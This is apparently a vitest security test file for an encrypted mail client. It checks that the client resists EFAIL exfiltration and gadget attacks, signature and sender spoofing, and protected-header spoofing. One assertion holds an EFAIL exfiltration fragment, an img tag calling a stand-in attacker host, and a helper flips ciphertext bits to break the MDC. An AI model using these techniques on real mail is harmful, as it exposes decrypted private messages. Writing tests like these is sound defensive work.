// Attacks through the whole read path. EFAIL: direct exfiltration, and the gadget forms (SED,
// broken MDC). Signature and sender spoofing: a signer that is not From, a forwarded signed
// message, a signed part among unsigned parts. Header spoofing: outer headers against
// protected ones, and a protected-header look-alike below the payload root. Each message is a
// template under test/fixtures/mail, filled with ciphertext and signatures made by the test.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  armorMessage,
  buildSedMessage,
} from '../../packages/crypto-core/test/security/sed-message.ts';
import { loadMailFixture } from '../fixtures/load.ts';
import { openHarness, type Harness } from './read-harness.ts';

const CANARY = 'canary-plaintext-5d1f';

let harness: Harness;

beforeAll(async () => {
  harness = await openHarness();
});

afterAll(() => {
  harness?.close();
});

function addresses(messageId: string, outerSubject = '...'): Record<string, string> {
  return {
    FROM: harness.alice.address,
    TO: harness.bob.address,
    MESSAGE_ID: messageId,
    OUTER_SUBJECT: outerSubject,
  };
}

function payload(messageId: string, text: string): Uint8Array {
  return loadMailFixture('payload-protected.eml', {
    ...addresses(messageId),
    INNER_SUBJECT: 'Protected subject',
    TEXT: text,
  });
}

/** Re-armors a message with one bit flipped `fromEnd` bytes before its end. */
function flipNearEnd(armored: string, fromEnd: number): string {
  const body = armored
    .split(/\r?\n/)
    .filter((line) => /^[A-Za-z0-9+/=]+$/.test(line) && !line.startsWith('='))
    .join('');
  const binary = Buffer.from(body, 'base64');
  binary[binary.length - fromEnd] = binary[binary.length - fromEnd]! ^ 0x04;
  return armorMessage(binary);
}

describe('EFAIL direct exfiltration', () => {
  it('does not decrypt or join the parts', async () => {
    const messageId = harness.messageId();
    const armored = await harness.encrypt(payload(messageId, CANARY));
    const raw = loadMailFixture('efail-direct-exfiltration.eml', {
      ...addresses(messageId),
      ARMOR: armored.trim(),
    });
    const { result } = await harness.deliverAndRead(raw, messageId);

    expect(result.kind).toBe('plain');
    expect(result.encryption.status).toBe('not-encrypted');
    expect(result.html).toBe('<img src="http://attacker.invalid/leak?');
    expect(JSON.stringify({ ...result, attachments: [] })).not.toContain(CANARY);
    for (const attachment of result.attachments) {
      expect(Buffer.from(attachment.content!).toString('latin1')).not.toContain(CANARY);
    }
  });
});

describe('EFAIL gadget', () => {
  it('refuses SED ciphertext', async () => {
    const messageId = harness.messageId();
    const bobCertificate = harness.bob.sealpost.keys.exportCertificate(harness.bob.address);
    const sed = await buildSedMessage(bobCertificate, payload(messageId, CANARY));
    const raw = loadMailFixture('encrypted-unnamed-inline.eml', {
      ...addresses(messageId),
      ARMOR: armorMessage(sed).trim(),
    });
    const { error } = await harness.deliverAndFail(raw, messageId);
    expect(error).toMatchObject({ code: 'DECRYPT_FAILED' });
    expect(String((error as Error).message)).toMatch(/tag 9/);
    expect(String((error as Error).message)).not.toContain(CANARY);
  });

  it('refuses a broken MDC', async () => {
    const messageId = harness.messageId();
    const armored = await harness.encrypt(payload(messageId, CANARY));
    const raw = loadMailFixture('encrypted-unnamed-inline.eml', {
      ...addresses(messageId),
      ARMOR: flipNearEnd(armored, 5).trim(),
    });
    const { error } = await harness.deliverAndFail(raw, messageId);
    expect(error).toMatchObject({ code: 'DECRYPT_FAILED' });
    expect(String((error as Error).message)).not.toContain(CANARY);
  });
});

describe('signature and sender spoofing', () => {
  it('shows a signer that is not From as mismatch', async () => {
    const messageId = harness.messageId();
    const raw = loadMailFixture('signed-detached.eml', {
      ...addresses(messageId),
      MICALG: 'micalg=pgp-sha512; ',
      ...(await harness.signedPart('Signed by another key.', harness.malloryKey)),
    });
    const { result } = await harness.deliverAndRead(raw, messageId);
    expect(result.signatures.map((signature) => signature.status)).toEqual(['valid']);
    expect(result.signatures[0]?.signerMatchesFrom).toBe(false);
    expect(result.signatures[0]?.reason).toContain(harness.alice.address);
    expect(result.signatureSummary).toBe('signer-mismatch');
  });

  it('leaves a forwarded signed message unsigned', async () => {
    const messageId = harness.messageId();
    const forwarded = Buffer.from(
      loadMailFixture('signed-detached.eml', {
        ...addresses('<original@sealpost.test>'),
        MICALG: 'micalg=pgp-sha512; ',
        ...(await harness.signedPart('Originally signed by alice.')),
      }),
    ).toString('latin1');
    const raw = loadMailFixture('forwarded-signed-attachment.eml', {
      ...addresses(messageId),
      FORWARDED: forwarded,
    });
    const { result } = await harness.deliverAndRead(raw, messageId);
    expect(result.kind).toBe('plain');
    expect(result.signatures).toEqual([]);
    expect(result.signatureSummary).toBe('unsigned');
  });

  it('shows a signed part among unsigned as partial', async () => {
    const messageId = harness.messageId();
    const raw = loadMailFixture('partially-signed.eml', {
      ...addresses(messageId),
      ...(await harness.signedPart('Only this part is signed.')),
    });
    const { result } = await harness.deliverAndRead(raw, messageId);
    expect(result.signatures.map((signature) => signature.status)).toEqual(['valid']);
    expect(result.signatureCoverage).toBe('partial');
    expect(result.signatureSummary).toBe('partially-signed');
  });
});

describe('header spoofing', () => {
  it('keeps protected headers over outer ones', async () => {
    const messageId = harness.messageId();
    const armored = await harness.encrypt(payload(messageId, 'Text.'));
    const raw = loadMailFixture('encrypted-unnamed-inline.eml', {
      ...addresses(messageId, 'Spoofed outer subject'),
      ARMOR: armored.trim(),
    });
    const { result } = await harness.deliverAndRead(raw, messageId);
    expect(result.headersProtected).toBe(true);
    expect(result.subject).toBe('Protected subject');
  });

  it('never fills a missing protected subject', async () => {
    const messageId = harness.messageId();
    const inner = loadMailFixture('payload-protected-no-subject.eml', {
      ...addresses(messageId),
      TEXT: 'Text.',
    });
    const raw = loadMailFixture('encrypted-unnamed-inline.eml', {
      ...addresses(messageId, 'Spoofed outer subject'),
      ARMOR: (await harness.encrypt(inner)).trim(),
    });
    const { result } = await harness.deliverAndRead(raw, messageId);
    expect(result.headersProtected).toBe(true);
    expect(result.subject).toBeNull();
  });

  it('ignores a nested protected look-alike', async () => {
    const messageId = harness.messageId();
    const inner = loadMailFixture('payload-nested-protected-lookalike.eml', { TEXT: 'Text.' });
    const raw = loadMailFixture('encrypted-unnamed-inline.eml', {
      ...addresses(messageId),
      ARMOR: (await harness.encrypt(inner)).trim(),
    });
    const { result } = await harness.deliverAndRead(raw, messageId);
    expect(result.headersProtected).toBe(false);
    expect(result.subject).not.toBe('Look-alike protected subject');
    expect(result.from).toBe(harness.alice.address.toLowerCase());
  });
});
